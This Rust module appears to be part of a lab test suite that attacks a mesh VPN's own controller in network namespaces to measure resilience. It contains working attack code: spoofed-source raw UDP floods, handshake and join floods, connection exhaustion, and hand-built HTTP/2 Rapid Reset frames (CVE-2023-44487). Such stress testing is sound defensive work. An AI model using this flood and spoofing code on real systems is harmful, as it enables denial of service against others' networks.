//! The attacks. Each runs until it is told to stop, and returns how many of its acts succeeded: connections
//! opened, requests answered, datagrams sent.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context, bail};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::runtime::Builder;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use towline_agent::keys::{Identity, Wireguard};
use towline_agent::state::Keys;
use towline_agent::tls;
use towline_proto::id::WireguardKey;
use towline_proto::token::{JoinToken, TokenSecret};
use x25519_dalek::PublicKey;

use super::member::{Member, Watch, connect, dial, join_once};
use crate::lab::interrupt::{self, wait_for};
use crate::lab::mesh::Operator;
use crate::lab::namespace::{Namespace, join};
use crate::lab::raw_tunnel::RawTunnel;
use crate::lab::scenario::interop;
use crate::lab::spoof::udp;
use crate::lab::topology::Host;
use crate::lab::traffic::random_bytes;

/// First of the attacker's additional addresses.
const FIRST_SOURCE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 128);
/// Number of the attacker's additional addresses.
pub(super) const SOURCES: u8 = 64;
/// Number of connections that the attacker keeps open from each of the addresses that it uses for them. It is the
/// controller's limit for one source.
const PER_SOURCE: usize = 128;
/// Number of addresses with connections. Together they hold twice as many as the controller has room for.
const CROWD: u8 = 16;
/// Number of clients that send joins.
const JOINERS: u8 = 32;
/// Pause before a connection that ended is opened again.
const AGAIN: Duration = Duration::from_millis(50);
/// Pause between bursts of datagrams, and the number of datagrams in one: 5,000 in a second.
const PROBES: (Duration, usize) = (Duration::from_millis(2), 10);
/// Shortest time between two moves of the member that roams.
const ROAM_PACE: Duration = Duration::from_millis(2);
/// Limit for the victim to know a member that has joined and published.
const KNOWN: Duration = Duration::from_secs(10);

/// What an attack needs to know.
pub(super) struct Target {
    /// Host of the attacker.
    pub(super) evil: Arc<Host>,
    /// Host from which the honest node joins.
    pub(super) honest: Arc<Host>,
    pub(super) controller: SocketAddr,
    /// Operator, who removes a node for the attack.
    pub(super) operator: Operator,
    /// Token that admits the attacker's members.
    pub(super) token: JoinToken,
    /// Name for a member, not used by another case.
    pub(super) name: String,
    /// Address and key of the victim's tunnels.
    pub(super) victim: SocketAddr,
    pub(super) victim_key: WireguardKey,
    /// Mesh address of the victim.
    pub(super) victim_overlay: IpAddr,
    /// Address of the tunnels of the victim's peer.
    pub(super) peer: SocketAddr,
}

/// Returns an address of the attacker.
pub(super) fn source(number: u8) -> Ipv4Addr {
    Ipv4Addr::from_bits(FIRST_SOURCE.to_bits() + u32::from(number % SOURCES))
}

/// Does nothing: the control.
pub(super) fn nothing(_: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    while !is_over(stop) {
        std::thread::sleep(AGAIN);
    }
    Ok(1)
}

/// Sends handshake initiations of unknown keys, half of them with the source of the victim's peer.
pub(super) fn handshakes(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let IpAddr::V4(peer) = target.peer.ip() else { bail!("the peer has no IPv4 address") };
    let host = target.evil.namespace();
    interop::flood::run(host, target.victim, target.victim_key, Some(peer), stop)
}

/// Sends probes that do not authenticate, with the source of the victim's peer.
pub(super) fn probes(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    target.evil.namespace().run(|| {
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
        let to = SockAddr::from(SocketAddr::new(target.victim.ip(), 0));
        let mut sent = 0;
        while !is_over(stop) {
            for _ in 0..PROBES.1 {
                let mut probe: [u8; 80] = random_bytes()?;
                probe[..4].copy_from_slice(&[0x50, 1, 0, 0]);
                let packet = udp(target.peer, target.victim, &probe)?;
                // Some datagrams are lost if a queue is full, as in any flood.
                if raw.send_to(&packet, &to).is_ok() {
                    sent += 1;
                }
            }
            std::thread::sleep(PROBES.0);
        }
        Ok(sent)
    })
}

/// Sends joins with wrong secrets from many addresses.
pub(super) fn joins(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let from = (0..JOINERS).map(source).collect();
    bad_joins(target.evil.namespace(), target, from, stop)
}

/// Sends joins with wrong secrets from the address of the honest node, as a machine behind the same NAT would.
pub(super) fn joins_beside(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let own = target.honest.addresses().iter().find_map(|address| match address {
        IpAddr::V4(address) => Some(*address),
        IpAddr::V6(_) => None,
    });
    let own = own.context("the host has no IPv4 address")?;
    bad_joins(target.honest.namespace(), target, vec![own; usize::from(JOINERS)], stop)
}

fn bad_joins(
    host: &Namespace,
    target: &Target,
    from: Vec<Ipv4Addr>,
    stop: &AtomicBool,
) -> anyhow::Result<u64> {
    let (to, token) = (target.controller, &target.token);
    on_host(host, stop, |tasks, acts| {
        for from in from {
            let (acts, mut token) = (acts.clone(), token.clone());
            tasks.spawn(async move {
                token.secret = TokenSecret([0; 32]);
                loop {
                    // The controller may close the connection at any time.
                    let _ = send_joins(from, to, &token, &acts).await;
                    sleep(AGAIN).await;
                }
            });
        }
    })
}

/// Sends joins on one connection until it ends.
async fn send_joins(
    from: Ipv4Addr,
    to: SocketAddr,
    token: &JoinToken,
    acts: &AtomicU64,
) -> anyhow::Result<()> {
    let keys = Keys { identity: Identity::generate()?, wireguard: Wireguard::generate()? };
    let connection = dial(from, to, Arc::new(tls::joining(token.ca)?)).await?;
    let mut client = towline_agent::join::client(connection.channel);
    loop {
        match join_once(&mut client, token, "guest", &keys).await {
            Ok(_) => bail!("the controller took a wrong secret"),
            Err(error) if error.downcast_ref::<tonic::Status>().is_some_and(is_answer) => {
                acts.fetch_add(1, Ordering::Relaxed);
            }
            Err(error) => return Err(error),
        }
    }
}

/// Returns whether a status is the controller's own answer.
fn is_answer(status: &tonic::Status) -> bool {
    !towline_service::grpc::is_of_the_transport(status)
}

/// Opens connections from many addresses, and says nothing on them.
pub(super) fn half_open(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let to = target.controller;
    on_host(target.evil.namespace(), stop, |tasks, acts| {
        for number in 0..CROWD {
            for _ in 0..PER_SOURCE {
                let acts = acts.clone();
                tasks.spawn(async move {
                    loop {
                        if let Ok(mut stream) = connect(source(number), to).await {
                            acts.fetch_add(1, Ordering::Relaxed);
                            // Ends when the controller closes the connection.
                            let _ = stream.read(&mut [0]).await;
                        }
                        sleep(AGAIN).await;
                    }
                });
            }
        }
    })
}

/// Connects with the certificate of a removed node from many addresses, and keeps all connections open.
pub(super) fn removed(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let member = member(target)?;
    target.operator.command_ok(&["node", "remove", &target.name])?;
    let (to, config) = (target.controller, member.config);
    on_host(target.evil.namespace(), stop, |tasks, acts| {
        for number in 0..CROWD {
            for _ in 0..PER_SOURCE {
                let (acts, config) = (acts.clone(), config.clone());
                tasks.spawn(async move {
                    loop {
                        if let Ok(connection) = dial(source(number), to, config.clone()).await {
                            acts.fetch_add(1, Ordering::Relaxed);
                            // The channel answers pings by itself. Strangers' connections end after a minute.
                            sleep(Duration::from_secs(60)).await;
                            drop(connection);
                        }
                        sleep(AGAIN).await;
                    }
                });
            }
        }
    })
}

/// Opens streams over HTTP/2 and resets them at once (CVE-2023-44487), from many addresses.
pub(super) fn resets(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let (to, ca) = (target.controller, target.token.ca);
    on_host(target.evil.namespace(), stop, |tasks, acts| {
        for number in 0..JOINERS {
            let acts = acts.clone();
            tasks.spawn(async move {
                loop {
                    // The controller ends the connection after some resets.
                    let _ = reset_streams(source(number), to, ca, &acts).await;
                    sleep(AGAIN).await;
                }
            });
        }
    })
}

/// Opens and resets streams on one connection until it ends.
async fn reset_streams(
    from: Ipv4Addr,
    to: SocketAddr,
    ca: towline_proto::id::Fingerprint,
    acts: &AtomicU64,
) -> anyhow::Result<()> {
    /// Preface of a client (RFC 9113 section 3.4), and an empty SETTINGS frame.
    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    /// Header block: indexed `:method: POST` and `:scheme: https`, then a literal `:path` and `:authority` (RFC 7541).
    const HEADERS: &[u8] = b"\x83\x87\x04\x1b/towline.v1.Discovery/Hello\x01\x01c";
    let connector = TlsConnector::from(Arc::new(tls::joining(ca)?));
    let stream = connect(from, to).await?;
    let mut stream = connector.connect(towline_service::tls::server_name(), stream).await?;
    stream.write_all(PREFACE).await?;
    let mut frames = Vec::new();
    let mut received = [0; 4_096];
    // Ids of a client's streams are odd, and grow.
    for id in (1..u32::MAX / 2).step_by(2) {
        frames.clear();
        // HEADERS with END_HEADERS, then RST_STREAM with CANCEL.
        frames.extend([0, 0, HEADERS.len() as u8, 1, 4]);
        frames.extend(id.to_be_bytes());
        frames.extend(HEADERS);
        frames.extend([0, 0, 4, 3, 0]);
        frames.extend(id.to_be_bytes());
        frames.extend(8u32.to_be_bytes());
        stream.write_all(&frames).await?;
        stream.flush().await?;
        acts.fetch_add(1, Ordering::Relaxed);
        if let Ok(read) = timeout(Duration::ZERO, stream.read(&mut received)).await {
            anyhow::ensure!(read? > 0, "the controller closed the connection");
        }
    }
    Ok(())
}

/// Opens watches of the whole map and reads nothing, while another member publishes.
pub(super) fn slow_readers(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let (reader, mut writer) = (member(target)?, another_member(target)?);
    let reader = Arc::new(reader);
    on_host(target.evil.namespace(), stop, |tasks, acts| {
        for number in 0..JOINERS {
            let (reader, acts) = (reader.clone(), acts.clone());
            tasks.spawn(async move {
                loop {
                    if let Ok(mut client) = reader.client(source(number)).await
                        && let Ok(watch) = Watch::open(&mut client, u64::from(number)).await
                    {
                        acts.fetch_add(1, Ordering::Relaxed);
                        sleep(Duration::from_secs(30)).await;
                        drop(watch);
                    }
                    sleep(AGAIN).await;
                }
            });
        }
        let acts = acts.clone();
        tasks.spawn(async move {
            loop {
                // The controller may end the session at any time.
                let _ = publish(&mut writer, &acts, u32::MAX).await;
                sleep(AGAIN).await;
            }
        });
    })
}

/// As a member: publishes, opens its watch again, and roams on its tunnel, each as fast as it can.
pub(super) fn busy_member(target: &Target, stop: &AtomicBool) -> anyhow::Result<u64> {
    let mut member = member(target)?;
    let secret = member.wireguard().secret().clone();
    let overlay = member.overlay_addresses().iter().find_map(|bytes| {
        let bytes: [u8; 4] = bytes.as_slice().try_into().ok()?;
        Some(Ipv4Addr::from(bytes))
    });
    let overlay = overlay.context("the member has no IPv4 mesh address")?;
    let host = target.evil.namespace();
    let from = SocketAddr::from((overlay, 9));
    let inner = udp(from, SocketAddr::new(target.victim_overlay, 9), b"roaming")?;
    std::thread::scope(|scope| {
        let publishing = host.thread(scope, "publish", || {
            on_host(host, stop, |tasks, acts| {
                let acts = acts.clone();
                tasks.spawn(async move {
                    loop {
                        // A new watch after a few records.
                        let _ = publish(&mut member, &acts, 20).await;
                    }
                });
            })
        })?;
        let roaming = host.thread(scope, "roam", || {
            let key = PublicKey::from(target.victim_key.0);
            let connected = wait_for("tunnel of the member", KNOWN, || {
                Ok(RawTunnel::connect(host, secret.clone(), &key, target.victim).ok())
            });
            let (mut tunnel, mut moves) = (connected?, 0);
            while !is_over(stop) {
                tunnel.roam(host)?;
                tunnel.send(&inner)?;
                moves += 1;
                std::thread::sleep(ROAM_PACE);
            }
            Ok(moves)
        })?;
        let (published, moved) = (join(publishing)?, join(roaming)?);
        anyhow::ensure!(published > 0 && moved > 0, "{published} records, {moved} moves");
        Ok(published + moved)
    })
}

/// Opens a watch and publishes up to `count` records. Requests that the controller refuses count too: they cost it
/// time.
async fn publish(member: &mut Member, acts: &AtomicU64, count: u32) -> anyhow::Result<()> {
    let mut client = member.client(source(0)).await?;
    let watch = Watch::open(&mut client, 1).await;
    acts.fetch_add(1, Ordering::Relaxed);
    let watch = watch?;
    for _ in 0..count {
        match member.publish(&mut client, &watch).await {
            Err(status) if !is_answer(&status) => return Err(status.into()),
            Ok(()) | Err(_) => acts.fetch_add(1, Ordering::Relaxed),
        };
    }
    Ok(())
}

/// Joins with the token from the attacker's host.
fn member(target: &Target) -> anyhow::Result<Member> {
    join_as(target, &target.name)
}

/// Joins a second member, as [`member`] does.
fn another_member(target: &Target) -> anyhow::Result<Member> {
    join_as(target, &format!("{}-b", target.name))
}

fn join_as(target: &Target, name: &str) -> anyhow::Result<Member> {
    target.evil.namespace().run(|| {
        let joined = Member::join(source(0), target.controller, &target.token, name);
        Builder::new_current_thread().enable_all().build()?.block_on(joined)
    })
}

/// Runs tasks on a host until `stop` is set. Returns the count that they shared.
fn on_host(
    host: &Namespace,
    stop: &AtomicBool,
    spawn: impl FnOnce(&mut JoinSet<()>, &Arc<AtomicU64>) + Send,
) -> anyhow::Result<u64> {
    host.run(|| {
        let acts = Arc::new(AtomicU64::new(0));
        Builder::new_current_thread().enable_all().build()?.block_on(async {
            let mut tasks = JoinSet::new();
            spawn(&mut tasks, &acts);
            while !is_over(stop) {
                sleep(AGAIN).await;
            }
            tasks.shutdown().await;
        });
        Ok(acts.load(Ordering::Relaxed))
    })
}

fn is_over(stop: &AtomicBool) -> bool {
    stop.load(Ordering::Relaxed) || interrupt::raised()
}
